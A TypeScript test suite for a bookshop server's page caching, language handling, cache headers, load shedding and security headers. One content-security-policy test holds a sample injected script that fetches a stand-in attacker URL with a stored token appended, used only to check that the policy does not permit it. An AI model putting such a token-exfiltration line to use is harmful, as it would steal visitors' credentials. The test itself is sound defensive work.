import { afterAll, beforeAll, expect, onTestFinished, test, vi } from 'vitest'
import { asPageNumber } from '#contract/page-numbers.ts'
import { wholeKopecks } from '#contract/vocabulary.ts'
import { hashSource } from '#http/headers.ts'
import { createLoadShedding } from '#http/load-shedding.ts'
import { createResponseCache } from '#http/response-cache/response-cache.ts'
import type { ProductInput } from '../../src/features/products/server/import-catalogue.ts'
import { cacheKey } from '../../src/main/pages/cache-key.ts'
import { queriesOfPages } from '../../src/main/pages/page-addresses.ts'
import type { PageBundle } from '../../src/main/pages/page-bundle.ts'
import { tagsOfChange } from '../../src/main/public-changes.ts'
import routes from '../../src/web/routes.ts'
import { type Answer, noCache, openPages, servePagesOf } from '../pages.ts'
import { randomRequests } from '../random-requests.ts'
import { openTestShop, type TestShop } from '../shop.ts'

let shop: TestShop
let bundle: PageBundle
let cached: Awaited<ReturnType<typeof servePagesOf>>
let fresh: Awaited<ReturnType<typeof servePagesOf>>

function product(book_id: string, about: Partial<ProductInput> = {}): ProductInput {
	return {
		...{ product_id: book_id, book_id, name: `Book ${book_id}`, author: 'Vera Lane', publisher: 'Millrood' },
		...{ series: null, description: { en: 'A book.', ru: 'Книга.' }, price: 100, priceWithoutDiscount: null },
		...{ isReady: true, demo: null, paper: null, categories: [1], level: 'A2', ageMark: 6, pages: 32 },
		...{ audioMinutes: null, cover: null, coverWidth: null, coverHeight: null, coverColour: null },
		...{ published_at: '2026-01-01', ...about },
	}
}

beforeAll(async () => {
	// The one part of a page that is chosen at random.
	vi.spyOn(Math, 'random').mockReturnValue(0.5)
	shop = await openTestShop()
	await shop.services.catalogue.importCatalogue({
		categories: [
			{ id: 1, name: { en: 'Readers', ru: 'Книги для чтения' } },
			{ id: 2, name: { en: 'Grammar', ru: 'Грамматика' } },
		],
		products: [
			product('tale', { level: 'B1', demo: 'tale_demo' }),
			product('fog', { price: 90, priceWithoutDiscount: 120 }),
			product('lamp', { paper: 'https://www.amazon.com/dp/1', categories: [2] }),
		],
	})
	await shop.services.books.add({
		...{ bookId: 'tale_demo', title: 'Tale', startPage: asPageNumber(1), source: 'tale.pdf', isDemo: true },
		...{ pdf: blank, texts: ['One', 'Two'], tableOfContent: [], tracks: [] },
	})
	// What it makes of the book changes pages.
	await shop.services.jobs.idle()
	bundle = await openPages()
	cached = await servePagesOf(shop, { bundle })
	fresh = await servePagesOf(shop, { bundle, cache: noCache })
})
afterAll(async () => {
	await Promise.all([cached.close(), fresh.close()])
	await shop.close()
	vi.restoreAllMocks()
})

const blank = Buffer.from(`%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R 4 0 R]/Count 2>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 420 595]>>endobj
4 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 420 595]>>endobj
trailer<</Root 1 0 R>>`)

/** What one visitor is told, and no other may differ in. */
function said({ status, headers, body }: Answer) {
	const { etag, vary, 'content-type': type, 'set-cookie': cookies, 'cache-control': caching } = headers
	const length = headers['content-length']
	const policy = headers['content-security-policy']
	return { status, etag, vary, type, cookies, caching, length, policy, body }
}

test('whatever was asked before, the answer is that of a fresh rendering', { tags: 'slow' }, async () => {
	let fromCache = 0
	for (const request of randomRequests({ seed: 20261122, count: 200 })) {
		const before = cached.rendered()
		const cachedAnswer = await cached.get(request)
		if (cached.rendered() === before) fromCache += 1
		expect(said(cachedAnswer), JSON.stringify(request)).toEqual(said(await fresh.get(request)))
	}
	// Half of them on a free machine; on a busy one all pages are rendered again in the background meanwhile.
	expect(fromCache).toBeGreaterThan(40)
})

test('a HEAD request empties no page', async () => {
	const path = '/books?search=tale'

	const head = await cached.get({ method: 'HEAD', path })
	const get = await cached.get({ path })

	expect([head.status, head.body]).toEqual([200, ''])
	expect(get.body).toContain('Book tale')
	expect(head.headers['content-length']).toBe(String(Buffer.byteLength(get.body)))
})

test('a cookie that is oddly written changes the language of nobody else', async () => {
	await cached.get({ path: '/legal/offer', headers: { cookie: 'lang=%72u', 'accept-language': 'en' } })

	const english = await cached.get({ path: '/legal/offer', headers: { 'accept-language': 'en' } })

	expect(english.body).toContain('<html lang="en">')
})

test('every page has its place in the table of what is read of a query', () => {
	expect(Object.keys(queriesOfPages).sort()).toEqual(patternsOf(routes).sort())
})

type Route = { path?: string | undefined; index?: boolean | undefined; children?: Route[] | undefined }

function patternsOf(of: readonly Route[]): string[] {
	return of
		.flatMap(({ path, index, children }) => [
			...(index ? [''] : path === undefined ? [] : [path]),
			...patternsOf(children ?? []),
		])
		.filter(path => path !== '*')
}

const publicPages = [
	'/',
	'/books',
	'/books/1?level=A2&page=2',
	'/all-books?search=tale',
	'/book-info/tale',
	'/demo-books/tale_demo?page=2',
	'/legal/offer',
	'/amazon',
	'/wishes',
	'/login',
	'/nowhere',
]

test.each(publicPages)('%s is one page, whatever advertising puts behind it', async path => {
	const request = `${path}${path.includes('?') ? '&' : '?'}utm_source=post&yclid=1&gclid=2`
	let visitors = 0
	// Pages are rendered again where a picture was late or messages of the database were missed: a visitor comes again, with another
	// address, and a page of its own would be rendered each time.
	await vi.waitFor(
		async () => {
			await cached.get({ path })
			const before = cached.rendered()
			await cached.get({ path: `${request}&x=${++visitors}` })
			expect(cached.rendered()).toBe(before)
		},
		{ timeout: 30_000 },
	)

	const [plain, tagged] = [await fresh.get({ path }), await fresh.get({ path: request })]
	expect(tagged.body).toBe(plain.body)
})

test('the catalogue call is one answer, whatever stands behind it', async () => {
	const everything = vi.spyOn(shop.services.catalogue, 'everythingAsJson')
	const own = await servePagesOf(shop, { bundle, cache: createResponseCache({ keyOf: cacheKey }) })
	onTestFinished(() => own.close().finally(() => everything.mockRestore()))

	const answers = await Promise.all(
		['', '?v=1', '?v=2'].map(query => own.get({ path: `/api/content/products${query}` })),
	)

	expect(new Set(answers.map(({ body }) => body)).size).toBe(1)
	expect(everything).toHaveBeenCalledOnce()
})

test('two tokens that differ are refused, however often the catalogue was asked for', async () => {
	const path = '/api/content/products'
	await cached.get({ path })

	const { status } = await cached.get({
		path,
		headers: { 'x-auth-token': 'one', authorization: 'Bearer two' },
	})

	expect(status).toBe(401)
})

test('twenty visitors at once are shown one rendering of a new page', async () => {
	const before = cached.rendered()

	const answers = await Promise.all(
		Array.from({ length: 20 }, (_, at) => cached.get({ path: `/books?level=C2&utm_source=${at}` })),
	)

	expect(new Set(answers.map(({ body }) => body)).size).toBe(1)
	expect(cached.rendered() - before).toBe(1)
})

test('a language asked for in an address is kept from there on, without a script', async () => {
	const chosen = await cached.get({ path: '/books?lang=ru', headers: { 'accept-language': 'en' } })
	const again = await cached.get({ path: '/books?lang=ru', headers: { 'accept-language': 'en' } })
	const cookie = String(chosen.headers['set-cookie']).split(';')[0] ?? ''

	const next = await cached.get({ path: '/book-info/tale', headers: { cookie, 'accept-language': 'en' } })

	expect([cookie, String(again.headers['set-cookie']).split(';')[0]]).toEqual(['lang=ru', 'lang=ru'])
	expect(chosen.headers['cache-control']).toBe('private, no-cache')
	expect(chosen.body).toContain('href="http://127.0.0.1:3000/books?lang=ru"')
	expect(next.body).toContain('<html lang="ru">')
	expect((await cached.get({ path: '/books?lang=xx' })).headers['set-cookie']).toBeUndefined()
})

test('proxies may keep for a second what is everybody’s, and nothing else', async () => {
	const caching = async (path: string) => (await cached.get({ path })).headers['cache-control']

	expect(await caching('/books')).toMatch(/^public, max-age=0, s-maxage=1,/)
	expect(await caching('/api/content/products')).toMatch(/^public, max-age=0, s-maxage=1,/)
	expect(await caching('/book-info/no-such-book')).toBe('private, no-cache')
	expect(await caching('/register/complete?name=Ann&signature=1')).toBe('private, no-cache')
	expect((await cached.get({ path: '/book-info/tale' })).headers['surrogate-key']).toBe(
		'listings book:tale book:tale_demo book:fog',
	)
})

test('a changed price is shown at once where it stands, and other books stay in the cache', async () => {
	let now = 0
	const cache = createResponseCache({ keyOf: cacheKey, nowMs: () => now })
	const own = await servePagesOf(shop, { bundle, cache })
	const stop = await shop.services.database.subscribe('public_pages', {
		onMessage: payload => cache.invalidate(tagsOfChange(payload)),
	})
	onTestFinished(async () => {
		await stop()
		cache.close()
		await own.close()
	})
	const others = ['/book-info/tale', '/book-info/fog', '/legal/offer']
	for (const path of ['/books', '/book-info/lamp', ...others]) await own.get({ path })
	const before = own.rendered()

	await shop.services.database
		.db<{ product: { product_id: string; price_kopecks: number } }>()
		.updateTable('product')
		.set({ price_kopecks: wholeKopecks(77_700) })
		.where('product_id', '=', 'lamp')
		.execute()
	now += 1500

	for (const path of ['/book-info/lamp', '/books']) expect((await own.get({ path })).body).toContain('777')
	for (const path of others) await own.get({ path })
	// The two that show the price, whether somebody asked or they were made ahead.
	expect(own.rendered() - before).toBe(2)
})

test('a script that somebody brings into a page is not on the page’s list', async () => {
	const evil = 'fetch("https://evil.example/?" + localStorage.token)'
	const { headers, body } = await fresh.get({ path: '/books' })
	const policy = String(headers['content-security-policy'])
	const [, rules = ''] = /<script type="speculationrules">(.*?)<\/script>/s.exec(body) ?? []

	expect(policy).toContain(hashSource(rules))
	expect(policy).not.toContain(hashSource(evil))
	expect(policy).not.toMatch(/script-src[^;]*(unsafe-inline|nonce-)/)
	expect(policy).toContain("require-trusted-types-for 'script'")
})

test('the policy of a page does not follow what is rendered into it', async () => {
	const policyOf = async (path: string) =>
		/script-src[^;]*/.exec(String((await fresh.get({ path })).headers['content-security-policy']))?.[0]

	const policies = await Promise.all(publicPages.map(policyOf))

	expect(new Set(policies).size).toBe(1)
})

test('a shop behind https tells browsers to come back by https only', async () => {
	const secure = await servePagesOf(shop, { bundle, publicUrl: 'https://shop.example', cache: noCache })
	onTestFinished(() => secure.close())

	const answers = await Promise.all(['/books', '/healthz', '/nowhere'].map(path => secure.get({ path })))
	const plain = await fresh.get({ path: '/healthz' })

	expect(answers.map(({ headers }) => headers['strict-transport-security'])).toEqual(
		Array(3).fill('max-age=31536000'),
	)
	expect(plain.headers['strict-transport-security']).toBeUndefined()
})

test('a shop that is behind with its work shows what it has, and a page that says so for the rest', async () => {
	let delayMs = 0
	const load = createLoadShedding(() => delayMs)
	const cache = createResponseCache({ keyOf: cacheKey })
	const busy = await servePagesOf(shop, { bundle, load, cache })
	onTestFinished(() => busy.close())
	await busy.get({ path: '/books' })

	delayMs = 2000
	const ready = await busy.get({ path: '/books' })
	const refused = await busy.get({ path: '/legal/offer', headers: { 'accept-language': 'ru' } })

	expect(ready.status).toBe(200)
	expect([refused.status, refused.headers['retry-after']]).toEqual([503, '2'])
	expect(refused.headers['content-type']).toContain('text/html')
	expect(refused.body).toContain('<html lang="ru">')
	expect(refused.body).toContain('Попробовать ещё раз')
})
